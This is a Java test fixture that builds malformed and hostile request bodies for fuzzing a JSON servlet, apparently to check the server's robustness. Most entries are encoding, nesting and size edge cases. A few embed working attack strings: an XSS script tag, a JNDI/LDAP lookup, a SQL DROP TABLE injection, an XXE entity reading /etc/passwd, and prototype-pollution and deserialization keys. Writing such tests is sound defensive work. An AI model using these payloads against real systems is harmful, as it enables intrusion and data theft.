package io.leadbridge.servlet;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;

import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Bodies sent by those who wish us ill, by name. */
final class HostileBodies {
    private HostileBodies() {}

    static Map<String, byte[]> all() {
        Map<String, byte[]> all = new LinkedHashMap<>();
        all.put("a byte that is no UTF-8", bytes("{\"OfferTitle\":\"\u00ff\"}"));
        all.put("a cut UTF-8 sequence", bytes("{\"OfferTitle\":\"\u00c3\"}"));
        all.put("an overlong NUL", bytes("{\"OfferTitle\":\"\u00c0\u0080\"}"));
        all.put("a surrogate in UTF-8", bytes("{\"OfferTitle\":\"\u00ed\u00a0\u0080\"}"));
        all.put("a lone surrogate, escaped", bytes(person("\\ud800")));
        all.put("swapped surrogates, escaped", bytes(person("\\udc00\\ud800")));
        all.put("a NUL in a string", bytes(person("\u0000")));
        all.put("a NUL in a string, escaped", bytes(person("\\u0000")));
        all.put("NULs only", new byte[5000]);
        all.put("NULs after the end", bytes(person("a") + "\u0000\u0000"));
        all.put("1e400", bytes("{\"UserDetails\":{\"Phone\":1e400}}"));
        all.put("1e999999999", bytes("{\"UserDetails\":{\"Phone\":1e999999999}}"));
        all.put("-1e-999999999", bytes("{\"UserDetails\":{\"Phone\":-1e-999999999}}"));
        all.put("a number of 200,000 digits", bytes("{\"UserDetails\":{\"Phone\":" + "9".repeat(200_000) + "}}"));
        all.put("NaN", bytes("{\"UserDetails\":{\"Phone\":NaN}}"));
        all.put("100,000 arrays in each other", bytes("[".repeat(100_000)));
        all.put("100,000 arrays, closed", bytes("[".repeat(100_000) + "]".repeat(100_000)));
        all.put("objects in each other", bytes("{\"a\":".repeat(40_000) + "1" + "}".repeat(40_000)));
        all.put(
                "arrays inside UserDetails",
                bytes("{\"UserDetails\":" + "[".repeat(50_000) + "]".repeat(50_000) + "}"));
        all.put("strings with JSON inside", bytes("{\"UserDetails\":\"" + "[".repeat(100_000) + "\"}"));
        all.put("a name 10,000 times", bytes(object(10_000, i -> "Email", i -> "\"a@b.com\"")));
        all.put("a name in 4,096 spellings", bytes(object(4096, HostileBodies::spelled, i -> "1")));
        all.put("4,096 names of one hash", bytes(object(4096, HostileBodies::colliding, i -> "1")));
        all.put("20,000 names", bytes(object(20_000, i -> "n" + i, i -> "{}")));
        all.put("a name of 200,000 characters", bytes("{\"" + "n".repeat(200_000) + "\":1}"));
        all.put("a text of 200,000 characters", bytes(person("x".repeat(200_000))));
        all.put(
                "names of the platform",
                bytes("{\"__proto__\":{\"a\":1},\"@type\":\"java.lang.Runtime\",\"constructor\":1}"));
        all.put(
                "code for other languages",
                bytes(person("<script>alert(1)</script>${jndi:ldap://x/a}'; DROP TABLE lead--")));
        all.put("a comment", bytes("/* */{}"));
        all.put("a second document", bytes("{}{}"));
        all.put("XML", bytes("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"));
        all.put("a gzip header", new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 0});
        all.put("a Java object", new byte[] {(byte) 0xac, (byte) 0xed, 0, 5, 's', 'r'});
        all.put("half a UTF-16 character", Arrays.copyOf("{\"a\":1}".getBytes(UTF_16LE), 13));
        all.put("noise", noise());
        return all;
    }

    private static String person(String firstName) {
        return "{\"UserDetails\":{\"FirstName\":\"" + firstName + "\",\"Email\":\"a@contoso.com\"}}";
    }

    private static String object(int members, IntFunction<String> name, IntFunction<String> value) {
        return IntStream.range(0, members)
                .mapToObj(i -> "\"" + name.apply(i) + "\":" + value.apply(i))
                .collect(Collectors.joining(",", "{", "}"));
    }

    /** One of 4,096 texts with the same hash code, out of {@code Aa} and {@code BB}. */
    private static String colliding(int number) {
        return IntStream.range(0, 12)
                .mapToObj(bit -> (number >> bit & 1) == 0 ? "Aa" : "BB")
                .collect(Collectors.joining());
    }

    /** One of 4,096 spellings of a name. */
    private static String spelled(int number) {
        return IntStream.range(0, 12)
                .mapToObj(bit -> (number >> bit & 1) == 0 ? "a" : "A")
                .collect(Collectors.joining());
    }

    private static byte[] noise() {
        byte[] noise = new byte[100_000];
        new Random(42).nextBytes(noise);
        return noise;
    }

    private static byte[] bytes(String latin) {
        return latin.getBytes(ISO_8859_1);
    }
}
